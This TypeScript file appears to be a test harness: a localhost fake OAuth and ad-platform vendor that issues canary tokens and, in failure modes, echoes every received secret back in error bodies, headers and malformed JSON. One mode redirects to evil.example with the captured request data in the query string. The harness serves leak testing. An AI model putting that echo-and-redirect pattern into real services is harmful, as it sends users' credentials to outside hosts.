import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Mints secrets that are all looked for afterwards. */
export type Mint = (name: string) => string;

/**
 * Every vendor of the rig at once: an OAuth server whose tokens are canaries, with accounts below the connected one, a
 * receiver of webhooks and alerts. `mood` decides how it answers; whatever it refuses, it repeats every secret it was
 * sent in the refusal, in the body, the header and the reason.
 */
export interface Vendor {
  readonly url: string;
  mood: (path: string) => Mood;
  close(): Promise<void>;
}

export type Mood = 'kind' | 'error_500' | 'error_400' | 'html' | 'redirect' | 'reset' | 'nonsense';

export async function startVendor(
  mint: Mint,
  keep: (name: string, secret: string) => void,
): Promise<Vendor> {
  const server = createServer((request, response) => {
    void answer(request, response).catch(() => response.destroy());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const body = await textOf(request);
    const target = new URL(request.url ?? '/', url);
    const sent = [request.url, body, JSON.stringify(request.headers)].join('\n');
    const form = new URLSearchParams(body);
    for (const name of ['code_verifier', 'code', 'client_secret'])
      if (form.has(name)) keep(`request.${name}`, form.get(name) ?? '');
    const mood = vendor.mood(target.pathname);
    if (mood !== 'kind') {
      refuse(response, mood, sent);
      return;
    }
    const json = (value: unknown, status = 200) =>
      response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
    const answers: Readonly<Record<string, () => unknown>> = {
      '/authorize': () => {
        const back = new URL(target.searchParams.get('redirect_uri') ?? url);
        back.searchParams.set('code', mint('authorization code'));
        back.searchParams.set('state', target.searchParams.get('state') ?? '');
        return response.writeHead(302, { location: back.toString() }).end();
      },
      '/token': () =>
        json({
          access_token: mint('access token'),
          refresh_token: mint('refresh token'),
          token_type: 'Bearer',
          expires_in: 3_600,
          id_token: mint('id token'),
        }),
      '/userinfo': () => json({ sub: 'account-1', id: 'account-1', name: 'Account one' }),
      '/me': () => json({ id: 'account-1', name: 'Account one' }),
      '/me/accounts': () =>
        json({
          data: ['1001', '1002'].map((id) => ({
            id,
            name: `Page ${id}`,
            access_token: mint('page token'),
          })),
        }),
      '/me/adaccounts': () => json({ data: [{ id: 'act_1', name: 'Ads' }] }),
      '/customers:listAccessibleCustomers': () =>
        json({ resourceNames: ['customers/1234567890', 'customers/1234567891'] }),
      '/debug_token': () => json({ data: { is_valid: true, scopes: [], expires_at: 0 } }),
    };
    const known = answers[target.pathname];
    if (known) known();
    else json({ ok: true });
  };

  const vendor: Vendor = {
    url,
    mood: () => 'kind',
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
  return vendor;
}

function refuse(response: ServerResponse, mood: Exclude<Mood, 'kind'>, sent: string): void {
  const line = sent.replaceAll(/[^\x20-\x7e]+/g, ' ').slice(0, 4_000);
  switch (mood) {
    case 'reset':
      response.destroy();
      return;
    case 'redirect':
      response
        .writeHead(302, { location: `https://evil.example/?${encodeURIComponent(line)}` })
        .end();
      return;
    case 'html':
      response.writeHead(502, { 'content-type': 'text/html', 'x-debug': line });
      response.end(`<html><pre>${sent}</pre></html>`);
      return;
    case 'nonsense':
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(`{"access_token": ["${JSON.stringify(sent).slice(1, -1)}"`);
      return;
    case 'error_400':
    case 'error_500':
      response.writeHead(mood === 'error_400' ? 400 : 500, { 'content-type': 'application/json' });
      response.end(
        JSON.stringify({
          error: 'server_error',
          error_description: sent,
          message: sent,
          sent: [sent],
        }),
      );
  }
}

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}
